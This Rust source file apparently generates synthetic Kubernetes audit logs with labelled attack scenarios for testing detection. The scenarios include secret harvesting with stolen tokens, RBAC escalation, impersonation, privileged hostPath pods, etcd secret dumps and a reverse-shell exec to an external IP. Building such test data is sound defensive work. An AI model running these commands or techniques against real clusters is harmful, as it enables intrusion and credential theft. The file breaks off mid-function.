//! Attack scenarios injected among the benign traffic, each with a fixed name and the kubetrail
//! category it is expected to be detected as.
//!
//! A scenario is planned ahead of time into finalised requests (its own random stream, so the
//! plan does not depend on the benign traffic); every request of a scenario, including the
//! benign-looking set-up steps and the system events that are its direct evidence, is labelled in
//! the truth file.

use crate::body::{self, Container, J, PodSpec, Volume, arr, map, obj};
use crate::cluster::{Cluster, Identity, Kind, Token, ctl, secrets_of, uid_of};
use crate::emit::{Build, Plan};
use crate::json::{self, DAY_US, HOUR_US, SEC_US};
use crate::objects;
use crate::request::{Req, r};
use crate::rng::{Rng, hash_str};

/// One attack scenario.
pub(crate) struct Scenario {
    pub name: &'static str,
    pub category: &'static str,
    pub description: &'static str,
    build: fn(&mut Plan<'_>, &Actors, i64),
}

/// The client an attacker drives a scenario with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Client {
    /// As the scenario is written (kubectl, or the stolen identity's own client).
    AsWritten,
    Curl,
    /// The official Python client library.
    Library,
}

/// How fast a scenario's steps follow each other.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Pace {
    /// A script: steps four times faster than written.
    Scripted,
    AsWritten,
    /// By hand and in pauses: steps four times slower, the whole attack spread over hours.
    Slow,
}

/// How reads are made.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reads {
    AsWritten,
    /// Lists become watches (`kubectl get -w`, an informer).
    Watch,
    /// Gets become lists narrowed to the object (`fieldSelector=metadata.name=NAME`).
    Selected,
}

/// The variant of a scenario, chosen from the seed: the same steps with another client, pace and
/// way of reading, so that detection cannot rely on one shape.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Variant {
    pub client: Client,
    pub pace: Pace,
    pub reads: Reads,
}

impl Variant {
    /// The scenario exactly as written.
    pub(crate) const WRITTEN: Variant = Variant {
        client: Client::AsWritten,
        pace: Pace::AsWritten,
        reads: Reads::AsWritten,
    };

    fn pick(rng: &mut Rng) -> Variant {
        let client = [Client::AsWritten, Client::Curl, Client::Library][rng.index(3)];
        let pace = [Pace::Scripted, Pace::AsWritten, Pace::Slow][rng.index(3)];
        let reads = [Reads::AsWritten, Reads::Watch, Reads::Selected][rng.index(3)];
        Variant {
            client,
            pace,
            reads,
        }
    }

    /// Factor on the pauses between steps.
    fn pace_factor(self) -> f64 {
        match self.pace {
            Pace::Scripted => 0.25,
            Pace::AsWritten => 1.0,
            Pace::Slow => 4.0,
        }
    }

    /// `client/pace/reads`, for the truth file.
    pub(crate) fn label(self) -> String {
        let client = match self.client {
            Client::AsWritten => "as-written",
            Client::Curl => "curl",
            Client::Library => "library",
        };
        let pace = match self.pace {
            Pace::Scripted => "scripted",
            Pace::AsWritten => "as-written",
            Pace::Slow => "slow",
        };
        let reads = match self.reads {
            Reads::AsWritten => "as-written",
            Reads::Watch => "watch",
            Reads::Selected => "selected",
        };
        format!("{client}/{pace}/{reads}")
    }
}

/// Identities only attackers use.
pub(crate) struct Actors {
    /// kubeadm's break-glass admin certificate (`kubernetes-admin`), stolen.
    admin: Identity,
}

impl Actors {
    fn new() -> Actors {
        Actors {
            admin: Identity::new(
                "kubernetes-admin",
                "",
                &["kubeadm:cluster-admins", "system:authenticated"],
                Kind::Human,
                Token::None,
                KUBECTL_128,
                "",
                "RBAC: allowed by ClusterRoleBinding \"kubeadm:cluster-admins\" of ClusterRole \"cluster-admin\" to Group \"kubeadm:cluster-admins\"",
            ),
        }
    }
}

const KUBECTL_129: &str = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625";
const KUBECTL_128: &str = "kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62";
const KUBECTL_130: &str = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b";
const CURL: &str = "curl/8.5.0";
const PYTHON: &str = "python-requests/2.32.3";
/// The official Python client's user agent.
const PY_CLIENT: &str = "OpenAPI-Generator/29.0.0/python";
const DISCOVERY_REASON: &str = "RBAC: allowed by ClusterRoleBinding \"system:discovery\" of ClusterRole \"system:discovery\" to Group \"system:authenticated\"";

/// Every scenario, in a fixed order (the truth file and statistics use these names).
pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "stolen-sa-token-secret-harvest",
        category: "secret-access",
        description: "Argo CD controller's pod token used from an external IP: discovery, list namespaces, list secrets cluster-wide, read secrets",
        build: stolen_sa_token,
    },
    Scenario {
        name: "anonymous-binding-abuse",
        category: "anonymous-access",
        description: "ClusterRoleBinding of cluster-admin to system:anonymous, then unauthenticated reads of namespaces, pods and secrets",
        build: anonymous_binding,
    },
    Scenario {
        name: "kubelet-nodes-proxy",
        category: "kubelet-access",
        description: "A person runs commands in pods through nodes/proxy (kubelet /run and /pods via the API server)",
        build: kubelet_nodes_proxy,
    },
    Scenario {
        name: "anonymous-kubelet-probe",
        category: "kubelet-access",
        description: "Kubelets ask about system:anonymous for nodes/proxy: denied, then allowed after a binding to system:kubelet-api-admin",
        build: anonymous_kubelet_probe,
    },
    Scenario {
        name: "cluster-admin-binding",
        category: "rbac-escalation",
        description: "The CI service account binds itself to cluster-admin, then reads kube-system secrets",
        build: cluster_admin_binding,
    },
    Scenario {
        name: "wildcard-role",
        category: "rbac-escalation",
        description: "A ClusterRole with * verbs on * resources and non-resource URLs, bound to its creator",
        build: wildcard_role,
    },
    Scenario {
        name: "impersonation",
        category: "impersonation",
        description: "A developer impersonates system:admin in group system:masters (after a denied attempt) to read secrets and bind roles",
        build: impersonation,
    },
    Scenario {
        name: "privileged-pod-hostpath",
        category: "privileged-workload",
        description: "Privileged pod with hostPID, hostNetwork and hostPath / (rejected by Pod Security in one namespace, admitted in default), then chroot exec",
        build: privileged_pod,
    },
    Scenario {
        name: "exec-control-plane",
        category: "exec-into-pod",
        description: "Exec into the etcd static pod to dump secret keys with etcdctl and read the etcd server key",
        build: exec_control_plane,
    },
    Scenario {
        name: "reverse-shell-exec",
        category: "exec-into-pod",
        description: "Exec into an application pod running bash -i >& /dev/tcp/IP/PORT",
        build: reverse_shell,
    },
    Scenario {
        name: "token-minting",
        category: "credential-access",
        description: "TokenRequest for a powerful kube-system service account (one-year token), then its use from a new external IP",
        build: token_minting,
    },
    Scenario {
        name: "csr-abuse",
        category: "credential-access",
        description: "Client-certificate CSR for O=system:masters approved by its own requester, then the certificate used from outside",
        build: csr_abuse,
    },
    Scenario {
        name: "legacy-token-secret",
        category: "credential-access",
        description: "A kubernetes.io/service-account-token secret created for a kube-system controller account, read, and its legacy token used",
        build: legacy_token_secret,
    },
    Scenario {
        name: "admission-webhook-hijack",
        category: "admission-tampering",
        description: "Mutating webhook for all pod creations pointing to an external URL with failurePolicy Ignore",
        build: webhook_hijack,
    },
    Scenario {
        name: "policy-weakening",
        category: "policy-tampering",
        description: "Deletes a namespace's default-deny NetworkPolicy and relabels it pod-security enforce=privileged",
        build: policy_weakening,
    },
    Scenario {
        name: "cronjob-persistence",
        category: "persistence",
        description: "CronJob in kube-system running a privileged host-mounting container that downloads and runs a script",
        build: cronjob_persistence,
    },
    Scenario {
        name: "daemonset-backdoor",
        category: "persistence",
        description: "DaemonSet in kube-system from an unknown registry: privileged, host PID/network, hostPath /, tolerating every taint",
        build: daemonset_backdoor,
    },
    Scenario {
        name: "discovery-sweep",
        category: "unusual-access",
        description: "An application's service account lists 14 resource types within a minute from its pod; nearly all forbidden",
        build: discovery_sweep,
    },
    Scenario {
        name: "forbidden-burst",
        category: "unusual-access",
        description: "A stolen pod token used from one external IP: 40 forbidden requests in three minutes",
        build: forbidden_burst,
    },
    Scenario {
        name: "slow-secret-harvest",
        category: "secret-access",
        description: "One person reads a few distinct secrets of other teams every working day, across the whole period",
        build: slow_secret_harvest,
    },
    Scenario {
        name: "events-deleted",
        category: "defense-evasion",
        description: "Events deleted in kube-system (deletecollection) and default to cover tracks",
        build: events_deleted,
    },
    Scenario {
        name: "nodeport-exposure",
        category: "exposure",
        description: "A NodePort service exposing an application's Redis on every node",
        build: nodeport_exposure,
    },
    Scenario {
        name: "self-subject-review-recon",
        category: "unusual-access",
        description: "An application's service account asks what it may do (selfsubjectrulesreviews, selfsubjectaccessreviews) in several namespaces",
        build: self_review_recon,
    },
    Scenario {
        name: "new-source-ip",
        category: "unusual-access",
        description: "A known admin suddenly connects from a never-seen external IP with a Python client and reads secrets",
        build: new_source_ip,
    },
];

/// Position of a scenario by name.
pub(crate) fn index_of(name: &str) -> Option<usize> {
    SCENARIOS.iter().position(|s| s.name == name)
}

/// Plans the selected scenarios over the cluster's period; returns the requests in start order
/// and each scenario's variant (indexed like [`SCENARIOS`]).
pub(crate) fn plan(c: &Cluster, selected: &[usize], seed: u64) -> (Vec<Req>, Vec<Variant>) {
    let actors = Actors::new();
    let mut p = Plan::new(c, seed);
    let period = c.end - c.start;
    let k = selected.len().max(1) as i64;
    let slot = period / k;
    let mut order_rng = Rng::new(seed ^ 0x0A77_AC45);
    let mut variant_rng = Rng::new(seed ^ 0x7A41_A175);
    let mut variants = vec![Variant::WRITTEN; SCENARIOS.len()];
    for (i, &s) in selected.iter().enumerate() {
        let jitter = (order_rng.f64() * 0.7 + 0.15) * slot as f64;
        let variant = Variant::pick(&mut variant_rng);
        variants[s] = variant;
        let mut anchor = c.start + slot * i as i64 + jitter as i64;
        // Leave room for the scenario to finish inside the period (slow ones take hours).
        let room = (40.0 * 60.0 * variant.pace_factor().max(1.0)) as i64 * SEC_US;
        anchor = anchor.min(c.end - room).max(c.start + SEC_US);
        p.scenario = s as u16;
        p.variant = variant;
        (SCENARIOS[s].build)(&mut p, &actors, anchor);
    }
    let mut reqs = p.reqs;
    reqs.sort_by_key(|r| r.t0);
    (reqs, variants)
}

/// Events a planned list of requests produces.
pub(crate) fn lines(reqs: &[Req]) -> u64 {
    reqs.iter()
        .map(|r| u64::from(r.with_received) + u64::from(r.long_running) + 1)
        .sum()
}

/// Starts a request of `who` (instance `pick`) from `ip` with `ua` ("" keeps the default).
fn req<'a>(
    p: &'a mut Plan<'_>,
    t: i64,
    who: &Identity,
    pick: u64,
    ip: &str,
    ua: &str,
) -> &'a mut Req {
    let client = p.variant.client;
    let (r, _, _) = p.begin(t);
    who.apply(r, pick, t);
    if !ip.is_empty() {
        r.ip(ip);
    }
    // The variant's client replaces the attacker's; the control plane's own side effects keep
    // theirs.
    let attacker = !(matches!(who.kind, Kind::ControlPlane | Kind::Kubelet)
        && matches!(who.token, Token::None));
    let ua = match client {
        Client::Curl if attacker => CURL,
        Client::Library if attacker => PY_CLIENT,
        _ => ua,
    };
    if !ua.is_empty() {
        r.ua(ua);
    }
    r
}

/// Advances `at` by a random step in milliseconds, scaled by the variant's pace.
fn step(p: &mut Plan<'_>, at: &mut i64, min_ms: i64, max_ms: i64) -> i64 {
    let d = p.rng.range(min_ms * 1_000, max_ms * 1_000);
    *at += (d as f64 * p.variant.pace_factor()) as i64;
    *at
}

/// A read by `who` as the variant makes it: a list may become a watch, a get a list narrowed
/// to the object by a field selector.
#[allow(clippy::too_many_arguments)]
fn read<'a>(
    p: &'a mut Plan<'_>,
    t: i64,
    who: &Identity,
    ip: &str,
    ua: &str,
    verb: &'static str,
    res: crate::request::Res,
    ns: &str,
    name: &str,
) -> &'a mut Req {
    let reads = p.variant.reads;
    let rv = p.c.rv(t);
    let timeout = 300 + p.rng.below(300);
    let r = req(p, t, who, 0, ip, ua);
    match (reads, verb) {
        (Reads::Watch, "list") => {
            r.target("watch", res, ns, "", "");
            r.watch_query("", rv, timeout);
        }
        (Reads::Selected, "get") if !name.is_empty() => {
            r.target_selected("list", res, ns, name);
            r.query(&format!(
                "fieldSelector=metadata.name%3D{}&limit=500",
                json::query_escaped(name)
            ));
        }
        _ => {
            r.target(verb, res, ns, name, "");
            if verb == "list" {
                r.query("limit=500");
            }
        }
    }
    r
}

fn discovery(p: &mut Plan<'_>, at: &mut i64, who: &Identity, pick: u64, ip: &str, ua: &str) {
    for path in ["/api?timeout=32s", "/apis?timeout=32s"] {
        let t = step(p, at, 5, 60);
        req(p, t, who, pick, ip, ua)
            .nonresource("get", path)
            .reason(DISCOVERY_REASON);
        p.commit();
    }
}

fn crb_body(name: &str, role: &str, subject_kind: &str, subject: &str, subject_ns: &str) -> J {
    let mut subj = obj! { "kind" => subject_kind };
    if subject_kind != "ServiceAccount" {
        subj.set("apiGroup", J::from("rbac.authorization.k8s.io"));
    }
    subj.set("name", J::from(subject));
    if !subject_ns.is_empty() {
        subj.set("namespace", J::from(subject_ns));
    }
    obj! {
        "kind" => "ClusterRoleBinding",
        "apiVersion" => "rbac.authorization.k8s.io/v1",
        "metadata" => obj! { "name" => name, "creationTimestamp" => J::Null },
        "subjects" => arr![subj],
        "roleRef" => obj! { "apiGroup" => "rbac.authorization.k8s.io", "kind" => "ClusterRole", "name" => role },
    }
}

/// Writes a create's request body and the object the API server returns.
fn bodies(r: &mut Req, obj: J, c: &Cluster, t: i64) {
    obj.write(&mut r.req_obj);
    let name = match &obj {
        J::Obj(kv) => kv
            .iter()
            .find(|(k, _)| k == "metadata")
            .and_then(|(_, m)| match m {
                J::Obj(mk) => mk.iter().find(|(k, _)| k == "name").map(|(_, v)| v.clone()),
                _ => None,
            }),
        _ => None,
    };
    let seed = match name {
        Some(J::Str(n)) => n,
        _ => format!("{t}"),
    };
    body::created(
        obj,
        &uid_of(&format!("{}/{seed}", c.seed())),
        c.rv(t),
        t,
        None,
    )
    .write(&mut r.resp_obj);
}

fn human<'c>(c: &'c Cluster, name: &str) -> &'c crate::cluster::Human {
    c.humans
        .iter()
        .find(|h| h.id.username.starts_with(name))
        .unwrap_or(&c.humans[0])
}

fn stolen_sa_token(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let who = &c.addons.argocd;
    let ip = "185.220.101.47";
    let mut at = t;
    discovery(p, &mut at, who, 0, ip, KUBECTL_129);
    let t1 = step(p, &mut at, 1_500, 6_000);
    read(p, t1, who, ip, KUBECTL_129, "list", r::NAMESPACES, "", "");
    p.commit();
    let t2 = step(p, &mut at, 4_000, 15_000);
    read(p, t2, who, ip, KUBECTL_129, "list", r::SECRETS, "", "");
    p.commit();
    let targets: [(&str, usize); 8] = [
        ("kube-system", 1),
        ("kube-system", 2),
        ("payments", 0),
        ("payments", 1),
        ("identity", 2),
        ("argocd", 2),
        ("monitoring", 2),
        ("orders", 1),
    ];
    for (ns, i) in targets {
        let name = secrets_of(ns)[i % secrets_of(ns).len()];
        let tt = step(p, &mut at, 3_000, 25_000);
        read(p, tt, who, ip, KUBECTL_129, "get", r::SECRETS, ns, name);
        p.commit();
    }
}

fn anonymous_binding(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "45.9.148.99";
    let mut at = t;
    let r = req(p, at, &a.admin, 0, ip, KUBECTL_128);
    r.target("create", r::CLUSTERROLEBINDINGS, "", "", "")
        .query("fieldManager=kubectl-create&fieldValidation=Strict");
    bodies(
        r,
        crb_body(
            "anonymous-debug",
            "cluster-admin",
            "User",
            "system:anonymous",
            "",
        ),
        c,
        at,
    );
    p.commit();
    let reason = "RBAC: allowed by ClusterRoleBinding \"anonymous-debug\" of ClusterRole \"cluster-admin\" to User \"system:anonymous\"";
    let anon = &c.anonymous;
    let steps: [(&str, crate::request::Res, &str, &str); 5] = [
        ("list", r::NAMESPACES, "", ""),
        ("list", r::PODS, "", ""),
        ("list", r::SECRETS, "kube-system", ""),
        (
            "get",
            r::SECRETS,
            "kube-system",
            "etcd-backup-s3-credentials",
        ),
        ("get", r::CONFIGMAPS, "kube-system", "kubeadm-config"),
    ];
    step(p, &mut at, 60_000, 240_000);
    for (verb, res, ns, name) in steps {
        let tt = step(p, &mut at, 2_000, 30_000);
        read(p, tt, anon, ip, CURL, verb, res, ns, name).reason(reason);
        p.commit();
    }
    let tt = step(p, &mut at, 600_000, 1_200_000);
    let r = req(p, tt, &a.admin, 0, ip, KUBECTL_128);
    r.target("delete", r::CLUSTERROLEBINDINGS, "", "anonymous-debug", "");
    objects::delete_options(Some("Background"), None).write(&mut r.req_obj);
    crb_body(
        "anonymous-debug",
        "cluster-admin",
        "User",
        "system:anonymous",
        "",
    )
    .write(&mut r.resp_obj);
    p.commit();
}

fn kubelet_nodes_proxy(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "frank");
    let ip = h.ips[0];
    let app_pod = c.apps[c.app_named("payments-api")].pods[0];
    let node = c.pods[app_pod].node;
    let node_name = c.nodes[node].name.clone();
    let mut at = t;
    req(p, at, &h.id, 0, ip, "")
        .target("list", r::NODES, "", "", "")
        .query("limit=500");
    p.commit();
    p.context();
    let t1 = step(p, &mut at, 10_000, 40_000);
    req(p, t1, &h.id, 0, ip, "")
        .target("get", r::NODES, "", &node_name, "proxy")
        .path_suffix("/pods");
    p.commit();
    objects::kubelet_review(
        p,
        t1 + 3_000,
        node,
        &c.kubelet_client,
        0,
        "get",
        "proxy",
        true,
        &c.kubelet_client.reason,
    );
    // The kubelet asks about the API server's own client certificate: evidence, not an attack.
    p.context();
    let kp = c.addons.kube_proxy.inst_pod(node as u64).unwrap_or(app_pod);
    let runs = [
        (kp, "cat /var/lib/kube-proxy/kubeconfig.conf"),
        (
            app_pod,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
        (app_pod, "env"),
    ];
    for (q, cmd) in runs {
        let pod = &c.pods[q];
        let tt = step(p, &mut at, 15_000, 90_000);
        let path = format!("/run/{}/{}/{}", pod.ns, pod.name, pod.container);
        req(p, tt, &h.id, 0, ip, "")
            .target("create", r::NODES, "", &node_name, "proxy")
            .path_suffix(&path)
            .query(&format!("cmd={}", json::query_escaped(cmd)));
        p.commit();
        objects::kubelet_review(
            p,
            tt + 2_500,
            node,
            &c.kubelet_client,
            0,
            "create",
            "proxy",
            true,
            &c.kubelet_client.reason,
        );
        p.context();
    }
}

fn anonymous_kubelet_probe(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let anon = &c.anonymous;
    let nodes: Vec<usize> = c.workers.iter().copied().take(2).collect();
    let mut at = t;
    for _ in 0..3 {
        for &n in &nodes {
            let tt = step(p, &mut at, 500, 20_000);
            let verb = if p.rng.chance(0.5) { "get" } else { "create" };
            objects::kubelet_review(p, tt, n, anon, 0, verb, "proxy", false, "");
        }
    }
    let ip = "89.248.165.74";
    let tb = step(p, &mut at, 120_000, 600_000);
    let r = req(p, tb, &a.admin, 0, ip, KUBECTL_128);
    r.target("create", r::CLUSTERROLEBINDINGS, "", "", "")
        .query("fieldManager=kubectl-create&fieldValidation=Strict");
    bodies(
        r,
        crb_body(
            "kubelet-debug",
            "system:kubelet-api-admin",
            "User",
            "system:anonymous",
            "",
        ),
        c,
        tb,
    );
    p.commit();
    let reason = "RBAC: allowed by ClusterRoleBinding \"kubelet-debug\" of ClusterRole \"system:kubelet-api-admin\" to User \"system:anonymous\"";
    step(p, &mut at, 30_000, 120_000);
    for &n in nodes.iter().chain(nodes.iter()) {
        let tt = step(p, &mut at, 1_000, 30_000);
        let verb = if p.rng.chance(0.5) { "get" } else { "create" };
        objects::kubelet_review(p, tt, n, anon, 0, verb, "proxy", true, reason);
    }
}

fn cluster_admin_binding(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let ci = &c.ci;
    let ip = c.ci_ips[2];
    let sys_reason = "RBAC: allowed by ClusterRoleBinding \"ci-deployer-system\" of ClusterRole \"ci-deployer-system\" to ServiceAccount \"ci-deployer/ci-system\"";
    let mut at = t;
    req(p, at, ci, 0, ip, "")
        .target("get", r::CLUSTERROLEBINDINGS, "", "ci-deployer-admin", "")
        .reason(sys_reason)
        .not_found();
    p.commit();
    // kubectl apply looks before it creates: not an attack on its own
    p.context();
    let t1 = step(p, &mut at, 300, 2_000);
    let r = req(p, t1, ci, 0, ip, "");
    r.target("create", r::CLUSTERROLEBINDINGS, "", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict")
        .reason(sys_reason);
    bodies(
        r,
        crb_body(
            "ci-deployer-admin",
            "cluster-admin",
            "ServiceAccount",
            "ci-deployer",
            "ci-system",
        ),
        c,
        t1,
    );
    p.commit();
    let admin_reason = "RBAC: allowed by ClusterRoleBinding \"ci-deployer-admin\" of ClusterRole \"cluster-admin\" to ServiceAccount \"ci-deployer/ci-system\"";
    let t2 = step(p, &mut at, 5_000, 60_000);
    read(p, t2, ci, ip, "", "list", r::SECRETS, "kube-system", "").reason(admin_reason);
    p.commit();
    for name in [
        "etcd-backup-s3-credentials",
        "cluster-autoscaler-cloud-config",
    ] {
        let tt = step(p, &mut at, 2_000, 20_000);
        read(p, tt, ci, ip, "", "get", r::SECRETS, "kube-system", name).reason(admin_reason);
        p.commit();
    }
}

fn wildcard_role(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "alice");
    let ip = h.ips[1];
    let mut at = t;
    let role = obj! {
        "kind" => "ClusterRole",
        "apiVersion" => "rbac.authorization.k8s.io/v1",
        "metadata" => obj! { "name" => "ops-break-glass", "creationTimestamp" => J::Null },
        "rules" => arr![
            obj! { "verbs" => arr!["*"], "apiGroups" => arr!["*"], "resources" => arr!["*"] },
            obj! { "verbs" => arr!["*"], "nonResourceURLs" => arr!["*"] },
        ],
    };
    let r = req(p, at, &h.id, 0, ip, "");
    r.target("create", r::CLUSTERROLES, "", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
    bodies(r, role, c, at);
    p.commit();
    let t1 = step(p, &mut at, 4_000, 30_000);
    let r = req(p, t1, &h.id, 0, ip, "");
    r.target("create", r::CLUSTERROLEBINDINGS, "", "", "")
        .query("fieldManager=kubectl-create&fieldValidation=Strict");
    bodies(
        r,
        crb_body(
            "ops-break-glass",
            "ops-break-glass",
            "User",
            &h.id.username,
            "",
        ),
        c,
        t1,
    );
    p.commit();
    let t2 = step(p, &mut at, 10_000, 60_000);
    read(p, t2, &h.id, ip, "", "list", r::SECRETS, "", "")
        .reason("RBAC: allowed by ClusterRoleBinding \"ops-break-glass\" of ClusterRole \"ops-break-glass\" to User \"alice@example.com\"");
    p.commit();
}

fn impersonation(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "dave");
    let ip = h.ips[0];
    let mut at = t;
    let r = req(p, at, &h.id, 0, ip, "");
    r.target("list", r::SECRETS, "kube-system", "", "")
        .query("limit=500");
    r.fail(
        403,
        "Forbidden",
        "serviceaccounts \"default\" is forbidden: User \"dave@example.com\" cannot impersonate resource \"serviceaccounts\" in API group \"\" in the namespace \"kube-system\"",
        true,
    )
    .fail_details("default", "serviceaccounts");
    p.commit();
    let steps: [(&str, crate::request::Res, &str, &str); 4] = [
        ("list", r::SECRETS, "kube-system", ""),
        (
            "get",
            r::SECRETS,
            "kube-system",
            "etcd-backup-s3-credentials",
        ),
        ("list", r::NODES, "", ""),
        ("get", r::SECRETS, "identity", "identity-signing-keys"),
    ];
    for (verb, res, ns, name) in steps {
        let tt = step(p, &mut at, 5_000, 40_000);
        read(p, tt, &h.id, ip, "", verb, res, ns, name)
            .impersonate("system:admin", &["system:masters", "system:authenticated"])
            .reason("");
        p.commit();
    }
    let tt = step(p, &mut at, 10_000, 60_000);
    let r = req(p, tt, &h.id, 0, ip, "");
    r.target("create", r::CLUSTERROLEBINDINGS, "", "", "")
        .query("fieldManager=kubectl-create&fieldValidation=Strict")
        .impersonate("system:admin", &["system:masters", "system:authenticated"])
        .reason("");
    bodies(
        r,
        crb_body(
            "payments-oncall-admin",
            "cluster-admin",
            "User",
            "dave@example.com",
            "",
        ),
        c,
        tt,
    );
    p.commit();
}

fn host_pod_spec(image: &str, container: &str, command: &[&str], node: &str) -> PodSpec {
    let ctr = Container {
        name: container.to_string(),
        image: image.to_string(),
        command: command.iter().map(|s| s.to_string()).collect(),
        privileged: true,
        mounts: vec![("host".into(), "/host".into(), false)],
        ..Container::default()
    };
    PodSpec {
        containers: vec![ctr],
        volumes: vec![Volume::HostPath {
            name: "host".into(),
            path: "/".into(),
            kind: String::new(),
        }],
        node_name: node.to_string(),
        host_network: true,
        host_pid: true,
        tolerate_all: true,
        ..PodSpec::default()
    }
}

fn pod_body(name: &str, ns: &str, spec: &PodSpec) -> J {
    obj! {
        "kind" => "Pod",
        "apiVersion" => "v1",
        "metadata" => body::meta(name, ns, map(&[("run", name)])),
        "spec" => spec.to_j(),
        "status" => obj! {},
    }
}

fn privileged_pod(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "carol");
    let ip = h.ips[0];
    let node = c.nodes[c.workers[c.workers.len() - 1]].name.clone();
    let spec = host_pod_spec(
        "docker.io/library/ubuntu:22.04",
        "debug",
        &["sleep", "infinity"],
        &node,
    );
    let mut at = t;
    let r = req(p, at, &h.id, 0, ip, "");
    r.target("create", r::PODS, "storefront", "", "")
        .query("fieldManager=kubectl-run");
    pod_body("debug-tools", "storefront", &spec).write(&mut r.req_obj);
    r.annotate(
        "pod-security.kubernetes.io/enforce-policy",
        "restricted:latest",
    );
    r.fail(
        403,
        "Forbidden",
        "pods \"debug-tools\" is forbidden: violates PodSecurity \"restricted:latest\": host namespaces (hostNetwork=true, hostPID=true), privileged (container \"debug\" must not set securityContext.privileged=true), allowPrivilegeEscalation != false (container \"debug\" must set securityContext.allowPrivilegeEscalation=false), unrestricted capabilities (container \"debug\" must set securityContext.capabilities.drop=[\"ALL\"]), restricted volume types (volume \"host\" uses restricted volume type \"hostPath\"), runAsNonRoot != true (pod or container \"debug\" must set securityContext.runAsNonRoot=true), seccompProfile (pod or container \"debug\" must set securityContext.seccompProfile.type to \"RuntimeDefault\" or \"Localhost\")",
        false,
    )
    .fail_details("debug-tools", "pods");
    p.commit();
    let t1 = step(p, &mut at, 20_000, 120_000);
    let r = req(p, t1, &h.id, 0, ip, "");
    r.target("create", r::PODS, "default", "", "")
        .query("fieldManager=kubectl-run");
    r.annotate(
        "pod-security.kubernetes.io/enforce-policy",
        "privileged:latest",
    );
    bodies(r, pod_body("debug-tools", "default", &spec), c, t1);
    p.commit();
    let t2 = step(p, &mut at, 8_000, 30_000);
    let q = crate::benign::exec_query(&["chroot", "/host", "bash"], "debug", true);
    let lat = p.rng.range(300 * SEC_US, 900 * SEC_US);
    let r = req(p, t2, &h.id, 0, ip, "");
    r.target(h.exec_verb, r::PODS, "default", "debug-tools", "exec")
        .query(&q);
    r.lat = lat;
    p.commit();
    let t3 = step(p, &mut at, 960_000, 1_200_000);
    let r = req(p, t3, &h.id, 0, ip, "");
    r.target("delete", r::PODS, "default", "debug-tools", "");
    objects::delete_options(Some("Background"), None).write(&mut r.req_obj);
    pod_body("debug-tools", "default", &spec).write(&mut r.resp_obj);
    p.commit();
}

fn exec_control_plane(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "194.26.29.102";
    let (etcd, _) = c.static_pods[0];
    let etcd_name = c.pods[etcd].name.clone();
    let mut at = t;
    req(p, at, &a.admin, 0, ip, KUBECTL_128)
        .target("list", r::PODS, "kube-system", "", "")
        .query("limit=500");
    p.commit();
    let dump: &[&str] = &[
        "etcdctl",
        "--endpoints=https://127.0.0.1:2379",
        "--cacert=/etc/kubernetes/pki/etcd/ca.crt",
        "--cert=/etc/kubernetes/pki/etcd/server.crt",
        "--key=/etc/kubernetes/pki/etcd/server.key",
        "get",
        "/registry/secrets",
        "--prefix",
        "--keys-only",
    ];
    let steal: &[&str] = &[
        "sh",
        "-c",
        "cat /etc/kubernetes/pki/etcd/server.key /etc/kubernetes/pki/etcd/ca.crt",
    ];
    for cmd in [dump, steal] {
        let tt = step(p, &mut at, 15_000, 90_000);
        let lat = p.rng.range(800_000, 4 * SEC_US);
        let r = req(p, tt, &a.admin, 0, ip, KUBECTL_128);
        r.target("create", r::PODS, "kube-system", &etcd_name, "exec")
            .query(&crate::benign::exec_query(cmd, "etcd", false));
        r.lat = lat;
        p.commit();
    }
}

fn reverse_shell(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "erin");
    let ip = h.ips[1];
    let a = c.app_named("storefront-web");
    let pod = &c.pods[c.apps[a].pods[0]];
    let mut at = t;
    req(p, at, &h.id, 0, ip, "").target("get", r::PODS, pod.ns, &pod.name, "");
    p.commit();
    p.context();
    let cmd: &[&str] = &["bash", "-c", "bash -i >& /dev/tcp/45.9.148.99/4444 0>&1"];
    let mut q = String::new();
    for part in cmd {
        q.push_str("command=");
        q.push_str(&json::query_escaped(part));
        q.push('&');
    }
    q.push_str("container=web&stderr=true&stdin=true&stdout=true");
    let t1 = step(p, &mut at, 5_000, 30_000);
    let lat = p.rng.range(900 * SEC_US, 1_800 * SEC_US);
    let r = req(p, t1, &h.id, 0, ip, "");
    r.target(h.exec_verb, r::PODS, pod.ns, &pod.name, "exec")
        .query(&q);
    r.lat = lat;
    p.commit();
}

fn token_minting(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "alice");
    let sa = "clusterrole-aggregation-controller";
    let mut at = t;
    let r = req(p, at, &h.id, 0, h.ips[0], "");
    r.target("create", r::SERVICEACCOUNTS, "kube-system", sa, "token");
    obj! {
        "kind" => "TokenRequest",
        "apiVersion" => "authentication.k8s.io/v1",
        "metadata" => obj! { "name" => sa, "namespace" => "kube-system", "creationTimestamp" => J::Null },
        "spec" => obj! { "audiences" => J::Null, "expirationSeconds" => 31_536_000, "boundObjectRef" => J::Null },
        "status" => obj! { "token" => "", "expirationTimestamp" => J::Null },
    }
    .write(&mut r.req_obj);
    p.commit();
    let reason = format!(
